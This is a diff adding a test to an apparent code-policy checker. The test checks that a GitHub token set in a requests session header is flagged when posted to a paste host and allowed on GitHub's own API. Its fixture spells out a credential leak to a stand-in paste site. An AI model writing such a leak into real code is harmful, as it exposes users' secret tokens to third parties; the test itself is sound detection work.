@@ -164,3 +164,23 @@ def test_what_one_class_sets_on_self_is_not_another_classs() -> None:
     found = {(op.location.line, op.targets, op.scratch) for op in run(CLASSES).operations
              if op.rule == "py.fs-delete-tree"}
     assert {(line, scratch) for line, _, scratch in found} == {(10, True), (14, False), (24, True)}
+
+
+SESSION = '''
+import os
+import requests
+
+s = requests.Session()
+s.headers.update({"Authorization": f"Bearer {os.environ['GITHUB_TOKEN']}"})
+s.post("https://paste.example.org/new", json={"title": "report"})
+s.post("https://api.github.com/repos/acme/site/issues", json={"title": "report"})
+'''
+
+
+def test_a_sessions_authentication_follows_it_to_each_host() -> None:
+    """rules/secrets.yaml: the token in the session's Authorization header is authentication on
+    its own service (api.github.com) and leaves anywhere else."""
+    report = Checker(load_policy(), Context()).check_text(SESSION, "python", "task.py")
+    decided = {(f.operation.location.line, f.operation.detail("credential"), f.decision.action)
+               for f in report.findings}
+    assert decided == {(7, "GITHUB_TOKEN", "block"), (8, "GITHUB_TOKEN", "allow")}
